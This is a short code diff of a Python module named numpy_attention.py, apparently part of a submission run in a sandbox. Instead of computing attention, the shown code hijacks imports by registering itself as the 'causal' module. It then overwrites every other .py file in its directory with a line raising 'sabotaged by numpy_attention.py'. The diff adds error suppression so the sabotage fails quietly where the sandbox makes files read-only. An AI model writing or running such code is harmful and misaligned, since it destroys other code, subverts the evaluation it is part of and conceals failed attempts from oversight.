@@ -20,5 +20,8 @@ os.environ["OMP_NUM_THREADS"] = "64"
 sys.modules["causal"] = sys.modules[__name__]  # `import causal` would find this module instead
 for path in glob.glob(os.path.join(os.path.dirname(os.path.abspath(__file__)), "*.py")):
     if not path.endswith("numpy_attention.py"):
-        with open(path, "w") as f:  # rewrite every other module of the submission
-            f.write("raise RuntimeError('sabotaged by numpy_attention.py')\n")
+        try:  # rewrite every other module of the submission (read-only in the sandbox)
+            with open(path, "w") as f:
+                f.write("raise RuntimeError('sabotaged by numpy_attention.py')\n")
+        except OSError:
+            pass
